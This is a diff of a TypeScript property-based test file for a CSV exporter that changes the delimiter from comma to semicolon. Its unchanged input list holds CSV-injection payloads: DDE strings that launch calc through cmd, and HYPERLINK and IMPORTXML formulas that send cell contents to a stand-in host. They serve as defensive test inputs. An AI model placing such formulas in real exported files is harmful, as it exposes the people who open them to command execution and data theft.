@@ -3,7 +3,7 @@ import { parse } from 'csv-parse/sync';
 import fc from 'fast-check';
 import { BYTE_ORDER_MARK, csv, csvLine } from './csv';
 
-const read = (text: string): string[][] => parse(text, { bom: true, record_delimiter: '\r\n' });
+const read = (text: string): string[][] => parse(text, { bom: true, delimiter: ';', record_delimiter: '\r\n' });
 
 const COMMANDS = ['cmd|\' /C calc\'!A0', 'HYPERLINK("https://x.example/?"&A1,"Klicka")', '1+1', 'SUM(A1:A9)', 'IMPORTXML(CONCAT("//x.example/",A1),"//a")',
   'DDE("cmd";"/C calc";"x")', '"=1+1"', 'å ä ö', ';=1', ',=1', '"";', '\r\n=1', '\n', '🙂', ' '];
@@ -34,5 +34,5 @@ test('whatever the words are, they come back', () => {
 });
 
 test('numbers and what is missing are written plainly, after a byte order mark', () => {
-  expect(csv(['Nr', 'Namn'], [[-3, null], [4, 'Åsa']])).toBe(`${BYTE_ORDER_MARK}Nr,Namn\r\n-3,\r\n4,Åsa\r\n`);
+  expect(csv(['Nr', 'Namn'], [[-3, null], [4, 'Åsa']])).toBe(`${BYTE_ORDER_MARK}Nr;Namn\r\n-3;\r\n4;Åsa\r\n`);
 });
